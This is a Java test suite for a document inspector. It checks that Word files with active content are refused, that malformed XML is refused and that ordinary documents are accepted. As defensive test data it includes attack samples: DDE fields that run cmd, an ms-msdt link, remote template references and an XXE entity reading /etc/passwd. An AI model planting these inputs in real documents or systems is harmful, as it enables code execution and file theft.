package io.smartbiz.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.smartbiz.files.inspection.FileType;
import io.smartbiz.files.inspection.Inspector;
import io.smartbiz.operations.TestInstallation;
import io.smartbiz.platform.errors.ErrorCode;
import io.smartbiz.platform.errors.Failure;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Documents that would do something when they are opened, in every spelling; and those that only look like it. */
class OfficeDocumentTest {

    private static final String WORD = "wordprocessingml.document";
    private static final String MAIN = "word/document.xml";
    private static final String RELATIONSHIPS = "word/_rels/document.xml.rels";
    private static final String SETTINGS = "word/_rels/settings.xml.rels";
    private static final String EXTERNAL = "\" TargetMode=\"External";

    private final Inspector inspector = TestInstallation.get().bean(Inspector.class);

    @TempDir
    Path folder;

    private FileType type(byte[] document) throws IOException {
        Path file = Files.write(folder.resolve("document"), document);
        return inspector.inspect("file", file, "document.docx", FileType.ALL).type();
    }

    private static byte[] with(Map<String, String> more) {
        return Samples.zip(Samples.office(WORD, MAIN, more));
    }

    private static byte[] related(String relationship) {
        return with(Map.of(RELATIONSHIPS, Samples.relationships(relationship)));
    }

    private static String types(String type) {
        return "<Types><Override PartName=\"/" + MAIN + "\" ContentType=\"" + type + "\"/></Types>";
    }

    private static byte[] text(String content) {
        return with(Map.of(MAIN, "<w:document xmlns:w=\"w\"><w:p>" + content + "</w:p></w:document>"));
    }

    private static byte[] renamed(String from, String to, Map<String, byte[]> parts) {
        var all = new LinkedHashMap<>(parts);
        all.put(to, all.remove(from));
        return Samples.zip(all);
    }

    private static byte[] utf16(String name, String content) {
        var parts = Samples.office(WORD, MAIN, Map.of());
        parts.put(name, content.getBytes(java.nio.charset.StandardCharsets.UTF_16));
        return Samples.zip(parts);
    }

    private static byte[] embedding(byte[] inner) {
        var parts = Samples.office(WORD, MAIN, Map.of());
        parts.put("word/embeddings/sheet.xlsx", inner);
        return Samples.zip(parts);
    }

    /** Programs find the directory at the end all the same. */
    private static byte[] behindJunk(byte[] archive) {
        var bytes = new ByteArrayOutputStream();
        bytes.writeBytes(Samples.bytes("junk"));
        bytes.writeBytes(archive);
        return bytes.toByteArray();
    }

    static Stream<Arguments> active() {
        String macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
        String project = Samples.relationships("vbaProject\" Target=\"x");
        return Stream.of(
                Arguments.of("macros by content type", with(Map.of("[Content_Types].xml", types(macros)))),
                Arguments.of("in other case", with(Map.of("[Content_Types].xml", types(macros.toUpperCase())))),
                Arguments.of("under another name", related("vbaProject\" Target=\"harmless.bin")),
                Arguments.of("in another case", related("VBAPROJECT\" Target=\"a.bin")),
                Arguments.of("listed in another case", with(Map.of("WORD/_RELS/DOCUMENT.XML.RELS", project))),
                Arguments.of("listed with backslashes", with(Map.of("word\\_rels\\document.xml.rels", project))),
                Arguments.of("in wide letters", utf16(RELATIONSHIPS, project)),
                Arguments.of(
                        "content types in another case",
                        renamed(
                                "[Content_Types].xml",
                                "[content_TYPES].XML",
                                Samples.office(WORD, MAIN, Map.of(RELATIONSHIPS, project)))),
                Arguments.of(
                        "a remote template",
                        with(Map.of(
                                SETTINGS,
                                Samples.relationships(
                                        "attachedTemplate\" Target=\"https://x.example/t.dotm" + EXTERNAL)))),
                Arguments.of(
                        "a template of a share",
                        with(Map.of(
                                SETTINGS,
                                Samples.relationships(
                                        "attachedTemplate\" Target=\"file:///\\\\x\\t.dotm" + EXTERNAL)))),
                Arguments.of(
                        "external in lower case", related("image\" Target=\"http://x/a.png\" TargetMode=\"external")),
                Arguments.of("a linked picture", related("image\" Target=\"http://x.example/a.png" + EXTERNAL)),
                Arguments.of("a link that starts a program", related("hyperlink\" Target=\"ms-msdt:/id" + EXTERNAL)),
                Arguments.of("a link to a share", related("hyperlink\" Target=\"\\\\x.example\\a" + EXTERNAL)),
                Arguments.of("an object", related("oleObject\" Target=\"embeddings/oleObject1.bin")),
                Arguments.of("a control", related("control\" Target=\"activeX/activeX1.xml")),
                Arguments.of("foreign text", related("aFChunk\" Target=\"afchunk.rtf")),
                Arguments.of("a linked workbook", related("externalLink\" Target=\"externalLinks/1.xml")),
                Arguments.of("a data connection", related("connections\" Target=\"connections.xml")),
                Arguments.of("a command", text("<w:fldSimple w:instr=' dde cmd \"/c calc\"'/>")),
                Arguments.of(
                        "a command in pieces",
                        text("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DD"
                                + "</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r>")),
                Arguments.of(
                        "a picture from elsewhere",
                        text("<w:instrText> INCLUDEPICTURE \"http://x.example/a.png\" \\d </w:instrText>")),
                Arguments.of("another document", text("<w:fldSimple w:instr='RD \\\\x.example\\a.docx'/>")),
                Arguments.of("foreign text in the old way", text("<w:instrText>include c:\\a.doc</w:instrText>")),
                Arguments.of("a command in numbers", text("<w:instrText>QUOTE 68 68 69 65</w:instrText>")),
                Arguments.of("macros in an embedded document", embedding(related("vbaProject\" Target=\"a.bin"))),
                Arguments.of(
                        "in an embedded document with bytes in front",
                        embedding(behindJunk(related("vbaProject\" Target=\"a.bin")))),
                Arguments.of(
                        "in a document of an embedded document",
                        embedding(behindJunk(embedding(behindJunk(related("vbaProject\" Target=\"a.bin")))))),
                Arguments.of("the old format inside", embedding(new byte[] {
                    (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0
                })));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("active")
    void refusesDocumentsThatDoSomething(String name, byte[] document) {
        assertThatThrownBy(() -> type(document)).isInstanceOfSatisfying(Failure.class, refusal -> {
            assertThat(refusal.code()).isEqualTo(ErrorCode.UNSUPPORTED_MEDIA_TYPE);
            assertThat(refusal.text().key()).isEqualTo("file.active_content");
        });
        assertThat(folder.toFile().list()).containsExactly("document");
    }

    static Stream<Arguments> broken() {
        String deep = "<a>".repeat(1_000) + "</a>".repeat(1_000);
        return Stream.of(
                Arguments.of("deep", with(Map.of("word/deep.xml", deep))),
                Arguments.of("names without end", with(Map.of("word/names.xml", names()))),
                Arguments.of("namespaces without end", with(Map.of("word/names.xml", each("<n xmlns='%d'/>", 6_000)))),
                Arguments.of(
                        "long namespaces",
                        with(Map.of("word/names.xml", each("<n xmlns='%d" + "x".repeat(900_000) + "'/>", 3)))),
                Arguments.of("instructions without end", with(Map.of("word/names.xml", each("<?n%d ?>", 6_000)))),
                Arguments.of(
                        "types without end",
                        with(Map.of(
                                "[Content_Types].xml",
                                "<Types>" + each("<Override PartName='/%d' ContentType='a'/>", 20_000) + "</Types>"))),
                Arguments.of(
                        "an endless value", with(Map.of("word/value.xml", "<a b='" + "x".repeat(3 << 20) + "'/>"))),
                Arguments.of("entities", with(Map.of("word/e.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"))),
                Arguments.of(
                        "a file of the machine",
                        with(Map.of(
                                "word/e.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))),
                Arguments.of("in pieces", with(Map.of(RELATIONSHIPS + "/[0].piece", "<Relationships/>"))),
                Arguments.of("two of a name", with(Map.of("WORD/DOCUMENT.xml", "<document/>"))),
                Arguments.of("half a list", with(Map.of(RELATIONSHIPS, "<Relationships><Relationship"))));
    }

    private static String names() {
        return each("<n%d/>", 6_000);
    }

    /** @param element with a place for its number */
    private static String each(String element, int times) {
        var xml = new StringBuilder("<a>");
        for (int i = 0; i < times; i++) {
            xml.append(element.replace("%d", Integer.toString(i)));
        }
        return xml.append("</a>").toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("broken")
    void refusesWhatNoProgramWrites(String name, byte[] document) {
        assertThatThrownBy(() -> type(document))
                .isInstanceOfSatisfying(
                        Failure.class,
                        refusal -> assertThat(refusal.code())
                                .isIn(ErrorCode.VALIDATION_ERROR, ErrorCode.PAYLOAD_TOO_LARGE));
    }

    @Test
    void takesWhatPeopleWrite() throws IOException {
        String links = Samples.relationships(
                "hyperlink\" Target=\"https://shop.example/?a=1&amp;b=2" + EXTERNAL,
                "hyperlink\" Target=\"mailto:a@shop.example" + EXTERNAL,
                "hyperlink\" Target=\"Other%20letter.docx" + EXTERNAL,
                "hyperlink\" Target=\"file:///C:\\Prices\\list.xlsx" + EXTERNAL,
                "styles\" Target=\"styles.xml",
                "image\" Target=\"media/image1.png",
                "package\" Target=\"embeddings/sheet.xlsx");
        var parts = Samples.office(
                WORD,
                MAIN,
                Map.of(
                        RELATIONSHIPS,
                        links,
                        SETTINGS,
                        Samples.relationships(
                                "attachedTemplate\" Target=\"file:///C:\\Users\\a\\AppData\\Roaming\\Letter.dotx"
                                        + EXTERNAL),
                        MAIN,
                        "<w:document xmlns:w=\"w\"><w:instrText> HYPERLINK \"https://x.example\" </w:instrText>"
                                + "<w:fldChar w:fldCharType='end'/><w:instrText>PAGE \\* MERGEFORMAT</w:instrText>"
                                + "<w:fldSimple w:instr=' DATE '/><w:t>DDEAUTO</w:t></w:document>",
                        "word/comments.vml",
                        "<xml><br>not quite XML</xml>",
                        "docProps/note.bin",
                        "anything"));
        parts.put("word/embeddings/sheet.xlsx", Samples.office("spreadsheetml.sheet", "xl/workbook.xml"));
        assertThat(type(Samples.zip(parts))).isEqualTo(FileType.DOCX);
        parts.put("word/embeddings/other.xlsx", behindJunk(Samples.office("spreadsheetml.sheet", "xl/workbook.xml")));
        assertThat(type(Samples.zip(parts))).isEqualTo(FileType.DOCX);
        assertThat(folder.toFile().list()).containsExactly("document");
        assertThat(type(Samples.office("spreadsheetml.sheet", "xl/other-name.xml")))
                .isEqualTo(FileType.XLSX);
    }

    @Test
    void goesByTheMainPartAndNotByItsName() {
        byte[] template = Samples.office("wordprocessingml.template", MAIN);
        byte[] slides = Samples.office("presentationml.presentation", MAIN);
        for (byte[] other : new byte[][] {template, slides}) {
            assertThatThrownBy(() -> type(other))
                    .isInstanceOfSatisfying(
                            Failure.class,
                            refusal -> assertThat(refusal.code()).isEqualTo(ErrorCode.UNSUPPORTED_MEDIA_TYPE));
        }
    }
}
